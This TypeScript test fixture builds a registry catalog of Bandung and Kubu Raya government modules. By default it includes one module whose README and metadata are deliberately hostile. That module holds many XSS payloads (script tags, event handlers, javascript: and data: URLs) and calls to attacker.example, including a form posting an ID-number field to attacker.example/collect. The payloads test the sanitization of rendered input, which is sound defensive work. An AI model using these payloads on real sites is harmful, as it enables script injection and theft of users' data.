// A realistic catalog input built in code: Kota Bandung (32.73) publishes
// most modules, Kabupaten Kubu Raya (61.12) publishes its portal that uses
// them. Includes yanked and deprecated versions, dependencies across
// namespaces and, on request, one module whose README and descriptions are
// hostile. Hashes and key ids are derived from names so runs are stable.
import { createHash } from 'node:crypto';
import type { AdoptionInput, CatalogInput } from '../../src/catalog/model.js';
import type { IndexVersion, LocalizedText, ModuleIndex, ModuleKind, VersionProvenance } from '../../src/manifest/types.js';

const hex = (seed: string) => createHash('sha256').update(seed).digest('hex');
const sri = (seed: string) => `sha512-${createHash('sha512').update(seed).digest('base64')}`;

export const BANDUNG_KEYS = [hex('key:bandung:ci'), hex('key:bandung:admin')];
export const KUBURAYA_KEYS = [hex('key:kuburaya:ci')];

/** The README of @kuburaya/tamu-jahat: every trick issue 3 names. */
export const HOSTILE_README = `# Modul tamu

Teks biasa sebelum serangan: HOSTILE-VISIBLE-MARKER.

<script>window.__pwned = 'script'; alert('script')</script>

<img src=x onerror="window.__pwned='img'; alert('img')">

[klik saya](javascript:window.__pwned='js-link';alert(1))

[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)

[vb](vbscript:msgbox(1)) [file](file:///etc/passwd) [unc](//attacker.example/share) [tab](java	script:alert(1))

<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>

<iframe src="https://attacker.example/frame" srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>

<style>body { display: none !important; } * { visibility: hidden; }</style>

<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">OVERLAY-TEXT</div>

<a href="javascript:alert(1)" onclick="window.__pwned='a'">raw anchor</a>

<form action="https://attacker.example/collect"><input name="nik"><button>Kirim</button></form>

<object data="https://attacker.example/x.swf"></object> <embed src="https://attacker.example/y"> <base href="https://attacker.example/">

<link rel="stylesheet" href="https://attacker.example/evil.css"> <meta http-equiv="refresh" content="0;url=https://attacker.example/">

![pelacak](https://attacker.example/pixel.gif) ![data img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

<https://attacker.example/autolink> <javascript:alert(2)>

[ref-link][evil]

[evil]: javascript:alert(3)

| kiri | kanan |
|:-----|------:|
| a | b |

\`\`\`html" onmouseover="alert(4)
<script>alert(5)</script>
\`\`\`
`;

interface VersionSpec {
  version: string;
  at: string;
  deps?: Record<string, string>;
  yanked?: boolean;
  yankedReason?: string;
  deprecated?: string;
  key?: string;
  provenance?: VersionProvenance;
}

/** Provenance as `gotong publish` records it; commits are derived from the version so runs are stable. */
function provenance(repository: string | null, version: string, more: { path?: string; dirty?: boolean; ci?: VersionProvenance['ci'] } = {}): VersionProvenance {
  return {
    source: { repository, commit: hex(`commit:${repository}:${version}`).slice(0, 40), path: more.path ?? '.', dirty: more.dirty ?? false },
    ...(more.ci ? { ci: more.ci } : {}),
    gotongVersion: '0.1.0',
    tarSha512: hex(`tar:${version}`) + hex(`tar2:${version}`),
  };
}

export const MUSRENBANG_REPOSITORY = 'https://gitlab.bandung.go.id/diskominfo/e-musrenbang.git';

interface ModuleSpec {
  namespace: 'bandung' | 'kuburaya';
  name: string;
  description: LocalizedText;
  type: ModuleKind;
  category: string;
  keywords: string[];
  license?: string;
  repository?: string;
  homepage?: string;
  versions: VersionSpec[];
  readme: string | null;
}

const PUBLISHER = { bandung: 'Diskominfo Kota Bandung', kuburaya: 'Diskominfo Kabupaten Kubu Raya' } as const;

function moduleIndex(spec: ModuleSpec): ModuleIndex {
  const versions: Record<string, IndexVersion> = {};
  for (const v of spec.versions) {
    const target = `${spec.namespace}/${spec.name}/${spec.name}-${v.version}.tgz`;
    versions[v.version] = {
      target,
      length: 4096 + (hex(target).charCodeAt(0) % 9) * 20_000,
      sha256: hex(`sha256:${target}`),
      integrity: sri(target),
      dependencies: v.deps ?? {},
      publishedAt: v.at,
      publisherKeyId: v.key ?? (spec.namespace === 'bandung' ? BANDUNG_KEYS[0] : KUBURAYA_KEYS[0]),
      yanked: v.yanked ?? false,
      ...(v.provenance ? { provenance: v.provenance } : {}),
      ...(v.yankedReason ? { yankedReason: v.yankedReason, yankedAt: '2023-06-03T01:00:00Z' } : {}),
      deprecated: v.deprecated ?? null,
      description: spec.description,
      type: spec.type,
      category: spec.category,
      keywords: spec.keywords,
      license: spec.license ?? 'Apache-2.0',
      repository: spec.repository ?? `https://gitlab.bandung.go.id/diskominfo/${spec.name}`,
      ...(spec.homepage ? { homepage: spec.homepage } : {}),
      publisher: PUBLISHER[spec.namespace],
    };
  }
  return { schemaVersion: 1, name: `@${spec.namespace}/${spec.name}`, versions };
}

const MUSRENBANG_README = `# e-Musrenbang

Aplikasi **musyawarah perencanaan pembangunan** (Musrenbang) berbasis web: usulan warga dari RT/RW,
verifikasi kelurahan dan kecamatan, hingga rekapitulasi di Bappelitbang.

## Fitur

- Usulan dengan foto dan lokasi peta
- Verifikasi berjenjang kelurahan → kecamatan → kota
- Ekspor rekap ke format SIPD

## Pemasangan

\`\`\`sh
gotong install @bandung/e-musrenbang
cp gotong_modules/@bandung/e-musrenbang/.env.example .env
\`\`\`

Lihat juga [panduan SSO](https://gitlab.bandung.go.id/diskominfo/sso-asn) dan kirim pertanyaan ke
[diskominfo@bandung.go.id](mailto:diskominfo@bandung.go.id).

| Lingkungan | Versi minimum |
|:-----------|--------------:|
| PHP        | 8.2           |
| PostgreSQL | 14            |

![Tangkapan layar](https://gitlab.bandung.go.id/diskominfo/e-musrenbang/-/raw/main/docs/layar.png)
`;

function specs(hostile: boolean): ModuleSpec[] {
  const list: ModuleSpec[] = [
    {
      namespace: 'bandung', name: 'e-musrenbang', type: 'app', category: 'perencanaan',
      description: { id: 'Aplikasi musyawarah perencanaan pembangunan: usulan warga sampai rekap kota.', en: 'Development planning deliberation app: from residents\u2019 proposals to the city-wide recap.' },
      keywords: ['musrenbang', 'perencanaan', 'bappeda', 'usulan'],
      homepage: 'https://musrenbang.bandung.go.id',
      versions: [
        { version: '1.0.0', at: '2023-02-14T03:00:00Z', deps: { '@bandung/ui-kit': '^1.0.0', '@bandung/sso-asn': '^1.0.0' } },
        { version: '1.1.0', at: '2023-06-02T03:00:00Z', deps: { '@bandung/ui-kit': '^1.2.0', '@bandung/sso-asn': '^1.0.0' }, yanked: true, yankedReason: 'Kode wilayah Kubu Raya (61.12) salah <b>terbaca</b>; gunakan 2.x' },
        { version: '1.1.1', at: '2023-06-05T03:00:00Z', deps: { '@bandung/ui-kit': '^1.2.0', '@bandung/sso-asn': '^1.0.0' } },
        {
          version: '2.0.0', at: '2024-01-20T03:00:00Z', deps: { '@bandung/ui-kit': '^2.0.0', '@bandung/sso-asn': '^1.2.0', '@bandung/ref-kode-wilayah': '^2024.1.0' }, key: BANDUNG_KEYS[1],
          provenance: provenance(MUSRENBANG_REPOSITORY, '2.0.0', { dirty: true }),
        },
        {
          version: '2.1.0', at: '2024-03-11T03:00:00Z', deps: { '@bandung/ui-kit': '^2.0.0', '@bandung/sso-asn': '^1.2.0', '@bandung/ref-kode-wilayah': '^2024.1.0' },
          provenance: provenance(MUSRENBANG_REPOSITORY, '2.1.0', { ci: { system: 'gitlab-ci', runUrl: 'https://gitlab.bandung.go.id/diskominfo/e-musrenbang/-/jobs/4711' } }),
        },
        {
          version: '3.0.0-beta.1', at: '2024-05-02T03:00:00Z', deps: { '@bandung/ui-kit': '^2.1.0', '@bandung/sso-asn': '^1.2.0', '@bandung/ref-kode-wilayah': '^2024.1.0' },
          provenance: provenance('https://github.com/pemkot-bandung/e-musrenbang', '3.0.0-beta.1', {
            path: 'apps/musrenbang', ci: { system: 'github-actions', runUrl: 'https://github.com/pemkot-bandung/e-musrenbang/actions/runs/9001' },
          }),
        },
      ],
      readme: MUSRENBANG_README,
    },
    {
      namespace: 'bandung', name: 'ui-kit', type: 'ui', category: 'antarmuka',
      description: { id: 'Komponen antarmuka standar Pemkot Bandung (formulir, tabel, tema).', en: 'Standard Bandung city UI components (forms, tables, theme).' },
      keywords: ['ui', 'komponen', 'desain'],
      versions: [
        { version: '1.0.0', at: '2022-11-01T02:00:00Z' },
        { version: '1.2.0', at: '2023-04-18T02:00:00Z', deprecated: 'Pakai 2.x: tema 1.x tidak memenuhi kontras WCAG.' },
        { version: '2.0.0', at: '2023-12-01T02:00:00Z' },
        { version: '2.1.0', at: '2024-02-09T02:00:00Z' },
      ],
      readme: '# ui-kit\n\nKomponen **Vue 3** untuk aplikasi Pemkot Bandung.\n\n```js\nimport { Tombol } from "@bandung/ui-kit";\n```\n',
    },
    {
      namespace: 'bandung', name: 'ref-kode-wilayah', type: 'data', category: 'data-referensi',
      description: { id: 'Kode wilayah administrasi Kemendagri (provinsi sampai desa/kelurahan).', en: 'Ministry of Home Affairs administrative region codes (province down to village).' },
      keywords: ['kemendagri', 'wilayah', 'kode', 'referensi'],
      versions: [
        { version: '2023.1.0', at: '2023-01-10T01:00:00Z' },
        { version: '2024.1.0', at: '2024-01-08T01:00:00Z' },
      ],
      readme: '# Kode wilayah\n\nSumber: Kepmendagri 100.1.1-6117 Tahun 2022. Contoh: Kota Bandung `32.73`, Kabupaten Kubu Raya `61.12`.\n',
    },
    {
      namespace: 'bandung', name: 'sso-asn', type: 'service', category: 'identitas',
      description: { id: 'Masuk tunggal (SSO) untuk aparatur sipil negara dengan OpenID Connect.', en: 'Single sign-on for civil servants over OpenID Connect.' },
      keywords: ['sso', 'oidc', 'asn', 'login'],
      versions: [
        { version: '1.0.0', at: '2022-09-12T04:00:00Z' },
        { version: '1.2.0', at: '2023-08-30T04:00:00Z' },
        { version: '1.2.1', at: '2024-02-20T04:00:00Z' },
      ],
      readme: null,
    },
    {
      namespace: 'bandung', name: 'sabilulungan', type: 'app', category: 'hibah-bansos',
      description: 'Aplikasi pengelolaan hibah dan bantuan sosial Kota Bandung.',
      keywords: ['hibah', 'bansos'],
      versions: [
        { version: '0.9.0', at: '2021-05-03T05:00:00Z', deps: { '@bandung/ui-kit': '^1.0.0' } },
        { version: '1.0.0', at: '2021-09-03T05:00:00Z', deps: { '@bandung/ui-kit': '^1.0.0' }, deprecated: 'Tidak dikembangkan lagi; gunakan modul hibah dari SIPD.' },
      ],
      readme: '# Sabilulungan\n\nSudah tidak dikembangkan.\n',
    },
    {
      namespace: 'bandung', name: 'command-center-dashboard', type: 'app', category: 'smart-city',
      description: { id: 'Dasbor Bandung Command Center: CCTV, lalu lintas, dan aduan warga.', en: 'Bandung Command Center dashboard: CCTV, traffic and residents\u2019 complaints.' },
      keywords: ['dashboard', 'smart city', 'cctv'],
      repository: 'git+ssh://git@gitlab.bandung.go.id/diskominfo/command-center.git',
      versions: [
        { version: '0.1.0', at: '2024-04-01T06:00:00Z', deps: { '@bandung/ui-kit': '^2.1.0', '@bandung/sso-asn': '^1.2.0', '@jakarta/peta-dasar': '^1.0.0' }, yanked: true },
      ],
      readme: '# Command Center\n\nVersi awal ditarik karena kebocoran kunci API.\n',
    },
    {
      namespace: 'kuburaya', name: 'portal-layanan', type: 'app', category: 'pelayanan-publik',
      description: { id: 'Portal layanan publik Kabupaten Kubu Raya.', en: 'Kubu Raya Regency public service portal.' },
      keywords: ['portal', 'layanan', 'kubu raya'],
      repository: 'https://gitlab.kuburayakab.go.id/diskominfo/portal-layanan',
      versions: [
        { version: '1.0.0', at: '2024-02-01T07:00:00Z', deps: { '@bandung/ui-kit': '^2.0.0', '@bandung/sso-asn': '^1.2.0', '@bandung/e-musrenbang': '^2.1.0' } },
        { version: '1.0.1', at: '2024-03-15T07:00:00Z', deps: { '@bandung/ui-kit': '^2.1.0', '@bandung/sso-asn': '^1.2.0', '@bandung/e-musrenbang': '^2.1.0', '@bandung/ref-kode-wilayah': '^2024.1.0' } },
      ],
      readme: '# Portal Layanan\n\nPortal yang memakai modul dari Kota Bandung melalui perjanjian kerja sama.\n',
    },
  ];
  if (hostile) {
    list.push({
      namespace: 'kuburaya', name: 'tamu-jahat', type: 'app', category: '<b onmouseover=alert(1)>kategori</b>',
      description: { id: '<script>window.__pwned="desc"</script>Deskripsi <img src=x onerror=alert(1)>', en: '"><svg onload=alert(1)>' },
      keywords: ['"><script>alert(1)</script>', 'tamu'],
      license: '<iframe src=javascript:alert(1)>',
      repository: 'javascript:alert(document.domain)',
      homepage: 'data:text/html,<script>alert(1)</script>',
      versions: [
        {
          version: '0.0.1', at: '2024-04-20T08:00:00Z', deps: { '@bandung/ui-kit': '^2.1.0' }, deprecated: '<script>window.__pwned="deprecated"</script>',
          // The index is hostile: a script address for the repository, a commit that is markup, a CI run that closes the attribute.
          provenance: {
            source: { repository: 'javascript:alert(1)', commit: '"><script>window.__pwned="commit"</script>', path: '<b>x</b>', dirty: true },
            ci: { system: '<img src=x onerror=alert(1)>', runUrl: 'https://ci.kuburayakab.go.id/run/1" onmouseover="window.__pwned=\'ci\'' },
            gotongVersion: '0.1.0', tarSha512: 'x',
          },
        },
      ],
      readme: HOSTILE_README,
    });
  }
  return list;
}

/**
 * What the cities reported and Bandung warned about: Kubu Raya's portal runs
 * e-musrenbang 2.0.0, which advisory BDG-2024-001 covers (fixed in 2.1.0), and
 * ui-kit 1.2.0 (outdated); Pontianak last reported weeks before the build and
 * runs the yanked e-musrenbang 1.1.0; Bandung's own portal is up to date
 * except for the region codes.
 */
export function fixtureAdoption(): AdoptionInput {
  return {
    records: [
      {
        schemaVersion: 1, namespace: 'kuburaya', workspace: 'portal-layanan', reportedAt: '2024-05-10T06:00:00Z',
        modules: { '@bandung/e-musrenbang': '2.0.0', '@bandung/ui-kit': '1.2.0', '@bandung/sso-asn': '1.2.1', '@kuburaya/portal-layanan': '1.0.1' },
      },
      {
        schemaVersion: 1, namespace: 'bandung', workspace: 'portal-kota', reportedAt: '2024-05-10T08:15:00Z',
        modules: { '@bandung/e-musrenbang': '2.1.0', '@bandung/ui-kit': '2.1.0', '@bandung/sso-asn': '1.2.1', '@bandung/ref-kode-wilayah': '2023.1.0' },
      },
      {
        schemaVersion: 1, namespace: 'pontianak', workspace: 'sipd-kota', reportedAt: '2024-04-02T01:00:00Z',
        modules: { '@bandung/e-musrenbang': '1.1.0', '@bandung/ref-kode-wilayah': '2024.1.0' },
      },
    ],
    advisories: [
      {
        module: '@bandung/e-musrenbang',
        advisories: [{
          id: 'BDG-2024-001', range: '>=2.0.0 <2.1.0', severity: 'high', fixedIn: '2.1.0', publishedAt: '2024-05-09T02:00:00Z',
          summary: 'Usulan warga dapat dibaca tanpa masuk (SSO tidak diperiksa pada ekspor SIPD).',
        }],
      },
    ],
  };
}

export interface FixtureOptions {
  /** Add @kuburaya/tamu-jahat with a hostile README and fields (default true). */
  hostile?: boolean;
}

export function catalogFixture(options: FixtureOptions = {}): CatalogInput {
  const modules = specs(options.hostile ?? true);
  return {
    registry: {
      name: 'jabar-kalbar',
      url: 'https://gitlab.example.go.id/kerja-sama/registry.git',
      rootSha256: hex('root.json v1'),
      generatedAt: '2024-05-10T09:30:00Z',
    },
    namespaces: [
      { name: 'bandung', keyIds: BANDUNG_KEYS, threshold: 1 },
      { name: 'kuburaya', keyIds: KUBURAYA_KEYS, threshold: 1 },
    ],
    modules: modules.map((spec) => ({ namespace: spec.namespace, index: moduleIndex(spec), readme: spec.readme })),
    adoption: fixtureAdoption(),
  };
}
